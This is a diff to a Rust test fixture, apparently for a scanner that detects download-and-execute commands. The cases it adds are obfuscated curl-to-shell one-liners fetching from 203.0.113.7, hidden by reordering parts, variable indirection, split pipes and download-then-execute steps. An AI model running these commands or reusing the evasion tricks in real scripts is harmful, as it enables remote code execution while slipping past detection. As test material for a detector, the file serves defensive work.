@@ -130,6 +130,13 @@ const PUBLISHED: &[(&str, Files<'_>)] = &[
         )],
     ),
     (
+        "8: parts by index, put together and run",
+        &[(
+            "run.py",
+            "import os\nparts = ['| sh', 'http://203.0.113.7/x', 'curl -s']\nos.system(' '.join(parts[i] for i in (2, 1, 0)))\n",
+        )],
+    ),
+    (
         "9: backslash",
         &[("run.sh", "cu\\rl -s http://203.0.113.7/x | ba\\sh\n")],
     ),
@@ -138,10 +145,24 @@ const PUBLISHED: &[(&str, Files<'_>)] = &[
         &[("run.sh", "c''url -s http://203.0.113.7/x | s\"\"h\n")],
     ),
     (
+        "9: variable indirection",
+        &[(
+            "run.sh",
+            "A=curl\nB=A\n${!B} -s http://203.0.113.7/x | sh\n",
+        )],
+    ),
+    (
         "9: broken pipe",
         &[(
             "run.sh",
             "curl -s http://203.0.113.7/x |\n\n  # now\n  sh\n",
+        )],
+    ),
+    (
+        "9: pipe through a file",
+        &[(
+            "run.sh",
+            "curl -s http://203.0.113.7/x > /tmp/x\nchmod +x /tmp/x\n/tmp/x\n",
         )],
     ),
     (
